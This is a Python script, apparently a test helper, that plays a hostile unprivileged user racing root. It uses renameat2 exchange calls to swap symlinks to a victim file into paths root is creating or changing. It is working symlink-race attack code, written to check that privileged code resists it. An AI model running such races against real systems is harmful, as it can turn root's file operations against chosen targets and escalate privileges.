"""A hostile user's racing process: swaps links in at paths root is working on.

Run as the unprivileged user, inside the scratch system (test_hostile_users.py), with only the
standard library (the system's python3):

    link_racer.py STOP_FILE SECONDS flip VICTIM PATH OTHER [PATH OTHER ...]
        exchange each PATH with its OTHER, a link to VICTIM (renameat2 RENAME_EXCHANGE), again and
        again: the name is now the real file or directory, now the link. When root replaced the
        link by a file, a new link takes the OTHER place.
    link_racer.py STOP_FILE SECONDS hijack VICTIM NAME [NAME ...]
        as soon as NAME exists (a directory root just made), exchange it with NAME.alt, a link to
        VICTIM made beforehand; NAMEs are watched in order, a few at a time.

It stops when STOP_FILE exists or after SECONDS, and prints how many swaps it made.
"""
import ctypes
import os
import sys
import time

AT_FDCWD = -100
RENAME_EXCHANGE = 2
WINDOW = 2  # hijack: names watched at once (root makes them in about this order)


def relink(victim, path, other):
    """Put a link to victim at OTHER again when neither name is one (root replaced it)."""
    try:
        if not os.path.islink(path) and not os.path.islink(other):
            if os.path.lexists(other):
                os.unlink(other)
            os.symlink(victim, other)
    except OSError:
        pass


def flip(libc, victim, pairs, rounds):
    swaps = 0
    for path, other in pairs:
        if libc.renameat2(AT_FDCWD, path, AT_FDCWD, other, RENAME_EXCHANGE) == 0:
            swaps += 1
        if rounds % 512 == 0:
            relink(victim, path, other)
    return swaps


def hijack(libc, pending):
    """Swap the first WINDOW names of `pending` with their '.alt' link as soon as they exist (one
    renameat2, so the instant between a mkdir and a chmod is enough); a swapped name leaves it."""
    for name in pending[:WINDOW]:
        if libc.renameat2(AT_FDCWD, name + b".alt", AT_FDCWD, name, RENAME_EXCHANGE) == 0:
            pending.remove(name)
            return 1
    return 0


def main(stop_file, seconds, mode, victim, *names):
    libc = ctypes.CDLL(None, use_errno=True)
    deadline = time.monotonic() + float(seconds)
    pairs = [(os.fsencode(names[i]), os.fsencode(names[i + 1])) for i in range(0, len(names) - 1, 2)]
    if mode == "hijack":
        names = [os.fsencode(name) for name in names]
        for name in names:
            os.symlink(victim, name + b".alt")
    swaps = rounds = 0
    pending = list(names)
    while True:
        rounds += 1
        if rounds % 512 == 0 and (os.path.exists(stop_file) or time.monotonic() > deadline):
            break
        if mode == "flip":
            swaps += flip(libc, victim, pairs, rounds)
        else:
            swaps += hijack(libc, pending)
            if not pending:
                break
    print(f"{swaps} swaps in {rounds} rounds")


if __name__ == "__main__":
    main(*sys.argv[1:])
